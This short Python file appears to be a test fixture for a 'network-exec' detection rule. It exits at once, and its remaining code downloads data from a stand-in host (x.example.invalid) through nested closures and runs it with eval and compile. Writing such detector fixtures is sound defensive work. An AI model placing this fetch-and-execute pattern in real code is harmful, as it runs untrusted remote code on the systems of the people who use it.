raise SystemExit('a fixture')
# held by network-exec
def _factory(address):
    import urllib.request
    def fetch():
        def inner():
            return urllib.request.urlopen(address).read()
        return inner
    return fetch

_run = _factory("https://x.example.invalid/z")
eval(compile(_run()(), "z", "exec"))
